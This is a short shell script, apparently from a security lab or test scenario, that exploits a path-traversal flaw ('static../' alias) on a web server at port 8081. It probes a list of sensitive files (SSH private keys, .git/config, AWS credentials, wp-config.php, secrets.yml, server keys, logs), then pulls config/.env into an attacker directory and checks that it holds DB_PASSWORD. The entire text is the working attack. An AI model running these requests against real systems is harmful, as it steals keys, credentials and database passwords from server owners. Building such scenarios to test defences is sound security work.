for p in .git/config .git/HEAD backup.tar.gz backup.sql db.sqlite id_rsa .ssh/id_rsa .htpasswd \
    config.php wp-config.php .env.bak settings.py secrets.yml credentials.json server.key \
    cert.pem private.pem .aws/credentials docker-compose.yml Dockerfile .npmrc .bash_history \
    config/ config/db.yml config/secrets.yml config/master.key logs/ logs/error.log logs/access.log \
    nginx.conf ../nginx.conf static/ .DS_Store phpinfo.php admin/ api/ debug/ .well-known/ robots.txt; do
  curl -s -m 5 -o /dev/null "http://$SCN_IP:8081/static../$p"
done
curl -s -m 5 "http://$SCN_IP:8081/static../config/.env" > "$SCN_ATTACKER/env.out"
grep -q DB_PASSWORD "$SCN_ATTACKER/env.out"
